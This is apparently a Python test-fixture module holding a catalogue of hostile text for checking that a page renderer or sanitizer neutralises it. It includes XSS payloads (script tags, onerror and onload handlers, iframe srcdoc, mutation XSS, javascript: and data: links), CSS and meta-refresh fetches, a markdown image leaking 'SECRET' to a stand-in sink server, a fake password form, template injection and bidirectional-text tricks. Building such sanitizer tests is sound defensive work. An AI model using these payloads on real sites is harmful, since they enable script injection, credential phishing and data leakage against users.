"""Texts that try to be more than text: to run, to fetch, to cover the page, to ask for a password.

Each is a text that an article, a file name, a visitor or a language model could hold. `SINK` stands
for the address of a server that counts whoever is tricked into asking it.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, replace

SINK = "http://sink"


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """A hostile text.

    Attributes:
        name: What it tries.
        text: As it is written.
        shown: What a reader is to see of it; white space counts as one blank.
        bites: Whether a page that takes it for markup asks the sink, opens a dialog or sets
            `window.__x` by itself.
    """

    name: str
    text: str
    shown: str
    bites: bool


def payloads(origin: str) -> Sequence[Payload]:
    """Return all of them, aimed at a sink."""
    return [
        replace(
            one,
            text=one.text.replace(SINK, origin),
            shown=" ".join(one.shown.replace(SINK, origin).split()),
        )
        for one in _PAYLOADS
    ]


def _payload(name: str, text: str, *, shown: str = "", bites: bool = False) -> Payload:
    return Payload(name=name, text=text, shown=shown or text, bites=bites)


_PAYLOADS = (
    _payload(
        "script",
        f"<script>window.__x=1;fetch('{SINK}/script')</script><script src={SINK}/src></script>",
        bites=True,
    ),
    _payload(
        "onerror",
        '<img src=x: onerror="window.__x=1;alert(1)"><input autofocus onfocus=alert(2)>',
        bites=True,
    ),
    _payload("svg", f"<svg/onload=\"window.__x=1\"><image href='{SINK}/svg'/></svg>", bites=True),
    _payload("iframe", f"<iframe src='{SINK}/iframe'></iframe>", bites=True),
    _payload(
        "srcdoc",
        f'<iframe srcdoc="<img src={SINK}/srcdoc><script>parent.__x=1</script>"></iframe>',
        bites=True,
    ),
    _payload(
        "javascript-link",
        '<a href="javascript:alert(1)">열기</a> [열기](javascript:alert(1)) <javascript:alert(1)>',
    ),
    _payload(
        "style",
        f"<style>@import '{SINK}/import';body{{background:url({SINK}/style);opacity:0}}</style>",
        bites=True,
    ),
    _payload(
        "link-base-meta",
        f'<link rel=stylesheet href={SINK}/link><base href="{SINK}/">'
        f'<meta http-equiv=refresh content="0;url={SINK}/meta">',
        bites=True,
    ),
    _payload(
        "mutation",
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src={SINK}/mutation onerror=alert(1)&gt;">',
    ),
    _payload(
        "noscript",
        f'</textarea></title></style></script><noscript><p title="</noscript><img src={SINK}/no>">',
        bites=True,
    ),
    _payload("toggle", '<details open ontoggle="window.__x=1">펼침</details>', bites=True),
    _payload("katex-link", r"$$\href{javascript:alert(1)}{눌러}$$ \(\url{javascript:alert(1)}\)"),
    _payload("latex", r"$$\frac{1}{2}$$ $x^2$ \[\text{큰일}\] \(\def\a{\a\a}\a\)"),
    _payload("markdown-image", f"![그림]({SINK}/markdown?q=SECRET)"),
    _payload("reference-image", f"![그림][가]\n\n[가]: {SINK}/reference '제목'\n\n[가]"),
    _payload("image", f"<img src='{SINK}/image' alt=그림>", bites=True),
    _payload(
        "media",
        f"<video src={SINK}/video autoplay></video><audio src={SINK}/audio autoplay></audio>",
        bites=True,
    ),
    _payload(
        "srcset",
        f"<picture><source srcset='{SINK}/srcset'><img src='{SINK}/picture'></picture>",
        bites=True,
    ),
    _payload(
        "overlay",
        '<div style="position:fixed;inset:0;z-index:9999;'
        f'background:url({SINK}/overlay)">잠김</div>',
        bites=True,
    ),
    _payload(
        "password",
        f'<form action="{SINK}/form"><input type=password name=p><button>로그인</button></form>',
    ),
    _payload(
        "mermaid",
        f'```mermaid\ngraph TD\nA["<img src={SINK}/mermaid>"] --> B\n```',
        bites=True,
    ),
    _payload(
        "bidirectional",
        "계\u200b좌 \u202e321-654\u202c \u2066안\u2069 \ufeff글\U000e0041\U000e0042끝\u200f",
        shown="계좌 321-654 안 글끝",
    ),
    _payload(
        "autolink",
        f"<{SINK}/autolink> {SINK}/bare www.sink.test me@sink.test //sink.test",
    ),
    _payload(
        "entities",
        "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62; "
        "&amp;lt;b&amp;gt;",
    ),
    _payload(
        "template",
        "${alert(1)} `${fetch('/')}` {{constructor.constructor('alert(1)')()}} <%= 7*7 %> {value}",
    ),
    _payload(
        "data-address",
        "<object data='data:text/html,<script>alert(1)</script>'></object>"
        "<embed src='data:image/svg+xml,<svg onload=alert(1)>'> [열기](data:text/html,alert)",
        bites=True,
    ),
    _payload(
        "attribute",
        f"\" autofocus onfocus=alert(1) x='` onmouseover=alert(2) style=background:url({SINK}/a)>",
    ),
    _payload(
        "structure",
        "</p></div></main><h1>새 글</h1><!-- <![CDATA[ # 제목\n\n> 인용\n\n- [x] 목록\n\n    코드",
    ),
)
